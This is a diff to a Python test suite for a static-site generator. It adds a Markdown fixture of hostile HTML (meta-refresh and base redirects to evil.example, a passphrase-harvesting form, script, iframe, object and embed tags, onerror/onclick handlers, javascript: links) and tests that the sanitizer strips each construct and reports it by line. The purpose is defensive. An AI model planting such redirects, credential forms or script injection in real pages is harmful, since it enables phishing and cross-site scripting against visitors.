@@ -213,6 +213,59 @@ def _q(text: str) -> str:
     return json.dumps(text)  # a YAML double-quoted scalar
 
 
+MOVES_LINES = {  # line in the file → what `check` must name there
+    3: "<meta http-equiv=\"refresh\">", 5: "<base>", 7: "<form>", 9: "raw <script>",
+    11: "<iframe>", 12: "<object>", 13: "<embed>", 15: "onerror= event handler",
+    18: "onclick= event handler in an attribute list", 20: "javascript: link",
+}
+MOVES = """# Moves
+
+<meta http-equiv="refresh" content="0;url=https://evil.example/login">
+
+<base href="https://evil.example/">
+
+<form action="https://evil.example/"><input name="passphrase"></form>
+
+<script>alert("moved")</script>
+
+<iframe src="https://evil.example/"></iframe>
+<object data="x.swf"></object>
+<embed src="x.swf">
+
+<img src="../files/chart.png" alt="Chart" onerror="alert(2)">
+
+A paragraph that clicks.
+{: onclick="alert(3)" }
+
+[Sign in again](javascript:alert(4)) and <a href="javascript:alert(5)">here</a>.
+
+Press <kbd>Ctrl</kbd>+<kbd>K</kbd>; H<sub>2</sub>O; x<sup>2</sup>; <span class="tag">kept</span>.
+
+<details markdown="1">
+<summary>Kept details</summary>
+
+Inside **details**.
+</details>
+
+!!! note "Kept admonition"
+    Body with <abbr title="Kept abbr">KA</abbr>.
+
+| Kept | Table |
+| --- | --- |
+| a | b |
+
+- [x] kept task
+
+Kept footnote[^1].
+
+[^1]: The note.
+
+`<script>in code</script>` is text.
+
+```html
+<meta http-equiv="refresh" content="0">
+```
+"""
 INJECTION = {
     "clients/evil/client.yml": f"""\
         name: {_q("Evil " + SCRIPT + " Co")}
@@ -296,9 +349,10 @@ INJECTION = {
     "clients/evil/pages/a.md": f"---\ntitle: {_q('page ' + SCRIPT)}\n---\nPage A.\n",
     "clients/evil/pages/b.md": f"---\ntitle: {_q('page ' + SCRIPT)}\n---\nPage B, same title.\n",
     "clients/evil/pages/raw.md": "# Raw HTML page\n\nPress <kbd>Ctrl</kbd>.\n",
+    "clients/evil/pages/moves.md": MOVES,
 }
 FIELDS = [
-    "Evil " + SCRIPT + " Co", "Model " + BREAKOUT, "contact " + SCRIPT, "role " + BREAKOUT,
+    "Evil " + SCRIPT + " Co", "model " + BREAKOUT, "contact " + SCRIPT, "role " + BREAKOUT,
     "risk " + SCRIPT, "desc " + BREAKOUT, "owner " + BREAKOUT, "mitigation " + SCRIPT,
     "closed " + BREAKOUT, "lane " + SCRIPT, "item " + SCRIPT, "item desc " + BREAKOUT,
     "undated " + BREAKOUT, "milestone " + SCRIPT, "assessment " + SCRIPT, "area " + SCRIPT,
@@ -487,3 +541,40 @@ def test_reader_add_never_writes_the_passphrase(tmp_path: Path, chosen: bool) ->
         assert _files_holding(tmp_path, form.encode("utf-16-le")) == []
     code, out = run(root, "check")
     assert code == 0, out
+
+
+def test_markdown_html_that_moves_the_reader_is_removed_and_the_rest_kept(
+        evil_site: Path) -> None:
+    moves = next(p for p in (evil_site / "pages").rglob("index.html")
+                 if "Kept details" in p.read_text("utf-8"))
+    text = moves.read_text("utf-8")
+    article = text[text.index("<article"):text.index("</article>")]
+    page = parse(article)
+    tags = [t for t, _ in page.tags]
+    assert "passphrase" not in article
+    for gone in ("meta", "base", "form", "iframe", "object", "embed", "script"):
+        assert gone not in tags, gone
+    assert page.handlers == [] and "javascript:" not in article and "evil.example" not in article
+    for kept in ("kbd", "sub", "sup", "details", "summary", "abbr", "table", "img"):
+        assert kept in tags, kept
+    assert ("span", {"class": "tag"}) in page.tags
+    assert any(t == "div" and "admonition" in (a.get("class") or "") for t, a in page.tags)
+    assert any(t == "div" and "footnote" in (a.get("class") or "") for t, a in page.tags)
+    assert "task-list-item" in article and "&lt;script&gt;in code&lt;/script&gt;" in article
+    assert "&lt;meta http-equiv" in article.replace('<span class="nt">meta</span>', "meta") \
+        or "meta</span>" in article  # the fenced example stays, as highlighted text
+    index = (evil_site / "search/search_index.json").read_text("utf-8")
+    assert "evil.example" not in index and "alert(" not in index.replace("alert(1)", "")
+
+
+def test_check_names_each_removed_construct_at_its_line(tmp_path: Path) -> None:
+    root = tmp_path / "evil"
+    root.mkdir()
+    shutil.copyfile(REPO / "mkdocs.yml", root / "mkdocs.yml")
+    write(root, {"clients/evil/client.yml": INJECTION["clients/evil/client.yml"],
+                 "clients/evil/pages/moves.md": MOVES})
+    code, out = run(root, "check")
+    for line, what in MOVES_LINES.items():
+        assert any(f"clients/evil/pages/moves.md:{line}:" in row and what in row
+                   for row in out.splitlines()), (line, what, out)
+    assert "moves.md:4" not in out and ":40:" not in out  # code is text, not a construct
